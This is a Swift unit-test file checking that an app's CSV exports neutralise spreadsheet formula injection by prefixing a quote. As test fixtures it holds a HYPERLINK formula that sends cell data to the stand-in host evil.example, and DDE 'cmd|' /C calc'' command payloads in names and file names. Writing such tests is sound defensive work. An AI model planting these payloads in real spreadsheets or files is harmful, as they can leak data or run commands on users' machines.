import CCMCore
import CCMFormats
@testable import CCMPublishing
@testable import CCMStore
import CCMTestSupport
import Foundation
import XCTest
@testable import CCMApp

/// CSV formula injection (04-outputs.md §1, 06 "Security and privacy"): a text cell that a
/// spreadsheet would take for a formula is written with a leading `'`, in every CSV ccm writes.
final class CSVInjectionTests: DatabaseTestCase {
    static let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"

    func testEveryFormulaStartIsNeutralisedAndNothingElse() {
        XCTAssertEqual(CSVCell.text("=1+1").written, "'=1+1")
        XCTAssertEqual(CSVCell.text("+1").written, "'+1")
        XCTAssertEqual(CSVCell.text("-2+3").written, "'-2+3")
        XCTAssertEqual(CSVCell.text("@A1").written, "'@A1")
        XCTAssertEqual(CSVCell.text("\t=1").written, "'\t=1")
        XCTAssertEqual(CSVCell.text("\r=1").written, "\"'\r=1\"", "quoted as well: it holds a line break")
        XCTAssertEqual(CSVCell.text("\r\n=1").written, "\"'\r\n=1\"")
        XCTAssertEqual(CSVCell.text(Self.hyperlink).written, "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\"")
        XCTAssertEqual(CSVCell.text("=SUM(A1;A2)").written, "\"'=SUM(A1;A2)\"")
        // Ordinary text and ccm's own counts are left as they are.
        for plain in ["CMI Dr. Popescu", "MF-805/2025", "a=b", "1-2", "", "'quoted", "14.11.2026 10:00", "Ștefănescu"] {
            XCTAssertEqual(CSVCell.text(plain).written, plain)
        }
        XCTAssertEqual(CSVCell.number(-3).written, "-3")
        XCTAssertEqual(CSVCell.line([.number(1), .text("@x"), .text("a;b")]), "1;'@x;\"a;b\"\r\n")
    }

    /// From the registry file to the published CSV through the real commands.
    func testTheCentralizerCSVFromTheCommandLine() throws {
        let registry = folder.appendingPathComponent("furnizori.csv")
        try Data(("cui,denumire,casa,nr_conventie,conventie_de_la,conventie_pana_la,email,tip\n" +
                  "31001235,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\",TM,+1,2025-01-01,,,MF\n" +
                  "42005674,@SUM(1+1)*cmd|' /C calc'!A0,TM,@A1,2025-01-01,,,MF\n" +
                  "19,-2+3,TM,-5,2025-01-01,,,MF\n" +
                  "60,CMI Dr. Obișnuit,TM,CV-1,2025-01-01,,,MF\n").utf8).write(to: registry)
        let env = ["CCM_DATABASE_URL": database.url, "CCM_HOME": folder.path, "CCM_CASA": "TM"]
        let imported = try CLI.run(["registry", "import", registry.path], env: env)
        XCTAssertEqual(imported.status, 0, imported.stderr)
        let out = folder.appendingPathComponent("c.csv")
        let r = try CLI.run(["centralizer", "--luna", "2026-10", "--format", "csv", "--output", out.path], env: env)
        XCTAssertEqual(r.status, 0, r.stderr)
        let records = try CSVRecords.parse(try String(contentsOf: out, encoding: .utf8), separator: ";")
        let rows = Dictionary(records.dropFirst().map { ($0.fields[1], $0.fields) }, uniquingKeysWith: { a, _ in a })
        XCTAssertEqual(rows["31001235"]?[2], "'" + Self.hyperlink)
        XCTAssertEqual(rows["31001235"]?[3], "'+1")
        XCTAssertEqual(rows["42005674"]?[2], "'@SUM(1+1)*cmd|' /C calc'!A0")
        XCTAssertEqual(rows["42005674"]?[3], "'@A1")
        XCTAssertEqual(rows["19"]?[2], "'-2+3")
        XCTAssertEqual(rows["19"]?[3], "'-5")
        XCTAssertEqual(rows["60"]?[2], "CMI Dr. Obișnuit")
        XCTAssertEqual(rows["60"]?[0].allSatisfy(\.isNumber), true, "Nr. crt. is a number: \(rows["60"] ?? [])")
        for record in records.dropFirst() {
            for cell in record.fields {
                XCTAssertFalse(cell.first.map { "=+-@\t\r".contains($0) } ?? false, "a live formula: \(cell)")
            }
        }
    }

    /// The e-mail's CSV attachment: a message and a refused file's name are text cells too; a
    /// file's reason names the file and its receipt instead of leaving Serie and Număr to guess.
    func testTheErrorReportAttachment() throws {
        let provider = Provider(cui: Fixture.cui, denumire: Self.hyperlink, casa: "TM", nrConventie: "+1",
                                conventieDeLa: LocalDate("2025-01-01")!, conventiePanaLa: nil, email: nil, tip: .mf)
        let received = try XCTUnwrap(ISO8601DateFormatter().date(from: "2026-11-10T10:00:00+02:00"))
        let report = ErrorReport(provider: provider, luna: YearMonth("2026-10")!, stage: .cuErori,
                                 errors: [CertificateErrorLine(serie: "CCMAM", numar: "4400100", code: "C01", message: "-1+1 mesaj")],
                                 refusals: [RefusedFile(fileName: "=cmd|' /C calc'!A0.xml", receivedAt: received, tip: "RECTIFICATIVA",
                                                                      reasons: [.init(code: "F08", message: "totalurile nu corespund"),
                                                                                .init(code: "F02", message: "@schema", line: 12, column: 7)],
                                                          superseded: false)],
                                 house: HealthInsuranceHouse(code: "TM", fullName: "Casa de Asigurări de Sănătate Timiș", shortName: "CAS Timiș"))
        let text = String(decoding: report.csv, as: UTF8.self)
        XCTAssertTrue(text.hasPrefix("\u{FEFF}Serie;Număr;Fișier;Primit la;Cod;Mesaj;Linia;Coloana\r\n"), text)
        let records = try CSVRecords.parse(text, separator: ";")
        XCTAssertEqual(records.count, 4)
        XCTAssertEqual(records[1].fields, ["CCMAM", "4400100", "", "", "C01", "'-1+1 mesaj", "", ""])
        XCTAssertEqual(records[2].fields, ["", "", "'=cmd|' /C calc'!A0.xml", "10.11.2026 10:00", "F08", "totalurile nu corespund", "", ""])
        XCTAssertEqual(records[3].fields, ["", "", "'=cmd|' /C calc'!A0.xml", "10.11.2026 10:00", "F02", "'@schema", "12", "7"])
    }
}
